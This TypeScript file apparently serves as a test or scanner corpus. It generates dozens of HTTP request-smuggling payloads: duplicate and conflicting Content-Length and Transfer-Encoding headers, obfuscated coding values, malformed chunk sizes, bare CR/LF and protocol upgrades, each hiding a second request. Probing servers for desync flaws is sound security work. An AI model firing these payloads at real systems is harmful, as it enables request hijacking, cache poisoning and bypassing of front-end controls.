// SPDX-License-Identifier: Apache-2.0
//
// Requests whose end two programs may see in different places. Each hides another one behind the end that one of them
// sees.

type Attack = readonly [name: string, bytes: (hidden: string) => string];

export function hiddenRequests(host: string, apiKey: string): readonly Attack[] {
  const start = `POST /v1/file HTTP/1.1\r\nHost: ${host}\r\nx-api-key: ${apiKey}\r\nContent-Type: application/json\r\n`;
  /** `length` bytes for one program, `{}` for the other. */
  const framed =
    (headers: (length: number) => string, body: (hidden: string) => string) =>
    (hidden: string): string => {
      const content = body(hidden);
      return `${start}${headers(content.length)}\r\n${content}`;
    };
  const plain = (hidden: string): string => `{}${hidden}`;
  const emptyChunks = (hidden: string): string => `0\r\n\r\n${hidden}`;
  const chunked = (headers: string, body: (hidden: string) => string): ((hidden: string) => string) =>
    framed(() => headers, body);
  const te = 'Transfer-Encoding: chunked\r\n';
  const hex = (text: string): string => text.length.toString(16);

  const codings = [
    'identity',
    'xchunked',
    'chunked, identity',
    'identity, chunked',
    'gzip, chunked',
    'chunked, chunked',
    'CHUNKED',
    '"chunked"',
    'chunked;q=1',
    '\tchunked',
    '\x0bchunked',
    'chunked\x0b',
    'chunk\0ed',
  ];
  const lengths = [
    '+2',
    '-2',
    '0x2',
    '2,2',
    '2 2',
    '2.0',
    '2e0',
    '',
    '\x0b2',
    '18446744073709551618',
    '0002',
  ];

  return [
    ['two lengths, the first short', framed((n) => `Content-Length: 2\r\nContent-Length: ${n}\r\n`, plain)],
    ['two lengths, the first long', framed((n) => `Content-Length: ${n}\r\nContent-Length: 2\r\n`, plain)],
    ['length and coding', framed((n) => `Content-Length: ${n}\r\n${te}`, emptyChunks)],
    ['coding and length', framed((n) => `${te}Content-Length: ${n}\r\n`, emptyChunks)],
    [
      'two codings',
      framed((n) => `${te}Transfer-Encoding: identity\r\nContent-Length: ${n}\r\n`, emptyChunks),
    ],
    ['two codings without a length', chunked(`${te}Transfer-Encoding: x\r\n`, emptyChunks)],
    [
      'a space before the colon',
      framed((n) => `Content-Length: ${n}\r\nTransfer-Encoding : chunked\r\n`, emptyChunks),
    ],
    [
      'a folded coding',
      framed((n) => `Content-Length: ${n}\r\nTransfer-Encoding:\r\n chunked\r\n`, emptyChunks),
    ],
    [
      'a coding after a bare LF',
      framed((n) => `Content-Length: ${n}\r\nX: y\nTransfer-Encoding: chunked\r\n`, emptyChunks),
    ],
    [
      'a coding after a bare CR',
      framed((n) => `Content-Length: ${n}\r\nX: y\rTransfer-Encoding: chunked\r\n`, emptyChunks),
    ],
    [
      'an underscore in the name',
      framed((n) => `Content-Length: ${n}\r\nTransfer_Encoding: chunked\r\n`, emptyChunks),
    ],
    ...codings.map(
      (coding): Attack => [
        `coding ${JSON.stringify(coding)} and a length`,
        framed((n) => `Content-Length: ${n}\r\nTransfer-Encoding: ${coding}\r\n`, emptyChunks),
      ],
    ),
    ...codings.map(
      (coding): Attack => [
        `coding ${JSON.stringify(coding)}`,
        chunked(`Transfer-Encoding: ${coding}\r\n`, emptyChunks),
      ],
    ),
    ...lengths.map(
      (length): Attack => [
        `length ${JSON.stringify(length)}`,
        framed(() => `Content-Length: ${length}\r\n`, plain),
      ],
    ),
    ['chunk sizes that end in LF', chunked(te, (hidden) => `2\n{}\n0\n\n${hidden}`)],
    ['a chunk size with CR in it', chunked(te, (hidden) => `2\r\r\n{}\r\n0\r\n\r\n${hidden}`)],
    ['a chunk without its line break', chunked(te, (hidden) => `2\r\n{}XX0\r\n\r\n${hidden}`)],
    ['a chunk with an LF for its line break', chunked(te, (hidden) => `2\r\n{}\n0\r\n\r\n${hidden}`)],
    ['a chunk with an extension', chunked(te, (hidden) => `2;a=b\r\n{}\r\n0\r\n\r\n${hidden}`)],
    ['an extension with LF in it', chunked(te, (hidden) => `2;\n{}\r\n0\r\n\r\n${hidden}`)],
    [
      'an extension that hides a chunk',
      chunked(te, (hidden) => `2;\nxx\r\n${hex(hidden)}\r\n0\r\n\r\n${hidden}\r\n0\r\n\r\n`),
    ],
    ['a chunk size with 0x', chunked(te, (hidden) => `0x2\r\n{}\r\n0\r\n\r\n${hidden}`)],
    ['a negative chunk size', chunked(te, (hidden) => `-2\r\n{}\r\n0\r\n\r\n${hidden}`)],
    ['a chunk size over 64 bits', chunked(te, (hidden) => `10000000000000002\r\n{}\r\n0\r\n\r\n${hidden}`)],
    ['a chunk size with a digit that is none', chunked(te, (hidden) => `:\r\n{}\r\n0\r\n\r\n${hidden}`)],
    ['a trailer', chunked(te, (hidden) => `2\r\n{}\r\n0\r\nX-A: b\r\n\r\n${hidden}`)],
    [
      'a trailer with a length',
      chunked(te, (hidden) => `2\r\n{}\r\n0\r\nContent-Length: 9\r\n\r\n${hidden}`),
    ],
    ['a request in a trailer', chunked(te, (hidden) => `2\r\n{}\r\n0\r\n${hidden}`)],
    [
      'an upgrade to h2c',
      (hidden) =>
        `GET /livez HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n${hidden}`,
    ],
    [
      'a WebSocket',
      (hidden) =>
        `GET /livez HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n${hidden}`,
    ],
    [
      'a body of a GET',
      (hidden) => `GET /livez HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    ],
    [
      'a body of a HEAD',
      (hidden) =>
        `HEAD /livez HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    ],
    ['HTTP/1.0 with a coding', (hidden) => `${start.replace('1.1', '1.0')}${te}\r\n0\r\n\r\n${hidden}`],
    ['two hosts', (hidden) => `GET /livez HTTP/1.1\r\nHost: ${host}\r\nHost: other\r\n\r\n${hidden}`],
    ['a target with a host', (hidden) => `GET http://other/livez HTTP/1.1\r\nHost: ${host}\r\n\r\n${hidden}`],
    [
      '100 Continue refused',
      (hidden) => `${start}Expect: 100-continue\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    ],
  ];
}
